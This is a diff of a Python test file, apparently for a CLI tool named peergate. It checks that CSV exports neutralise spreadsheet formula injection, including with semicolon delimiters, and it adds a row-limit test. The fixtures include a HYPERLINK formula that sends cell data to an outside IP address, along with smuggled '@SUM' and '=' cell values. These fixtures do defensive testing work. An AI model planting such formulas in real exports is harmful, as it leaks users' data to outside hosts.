@@ -2,6 +2,7 @@
 
 import csv
 import io
+from itertools import islice
 
 import pytest
 
@@ -24,6 +25,10 @@ FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"see")'
         ("\uff1d1", "'\uff1d1"),
         (" =1", "' =1"),
         ("\t=1", "\\x09=1"),
+        ("x;=1", "x;'=1"),
+        ('x; "" @SUM(A1)', 'x;\' "" @SUM(A1)'),
+        (["a;", "-1"], "a;' -1"),
+        ("one; two", "one; two"),
         ("two\nlines", "two\\x0alines"),
         ("\x1b]0;gone\u202e", "\\x1b]0;gone\\u202e"),
         (["192.0.2.1", "2001:db8::1"], "192.0.2.1 2001:db8::1"),
@@ -36,8 +41,14 @@ FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"see")'
 )
 def test_cells(capsys: pytest.CaptureFixture[str], value: object, shown: str) -> None:
     show_csv([{"a": value, "b": {"c": 1}}], ("a", "b.c", "b.d", "e"))
-    head, row = csv.reader(io.StringIO(capsys.readouterr().out))
+    text = capsys.readouterr().out
+    head, row = csv.reader(io.StringIO(text))
     assert (head, row) == (["a", "b.c", "b.d", "e"], [shown, "1", "", ""])
+    if isinstance(value, int):
+        return
+    # As where a semicolon parts cells.
+    for cell in next(islice(csv.reader(io.StringIO(text), delimiter=";"), 1, None)):
+        assert not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d")), cell
 
 
 def rows(text: str) -> list[dict[str, str]]:
@@ -57,6 +68,8 @@ def test_peers_and_their_trail(peergate: Peergate) -> None:
     first, *_ = rows(peergate("audit", "list", "--csv", "--subject", "peer/1").out)
     assert (first["action"], first["actor.name"], first["before"]) == ("peer.request", "admin", "")
     assert '"purpose": "=HYPERLINK(' in first["after"]
+    cut = peergate("audit", "list", "--csv", "--limit", "1")
+    assert (len(rows(cut.out)), "the first 1: --limit gives more" in cut.err) == (1, True)
     assert rows(peergate("stranger", "list", "--csv").out) == []
     for group in ("peer", "audit", "stranger"):
         both = peergate(group, "list", "--csv", "--json")
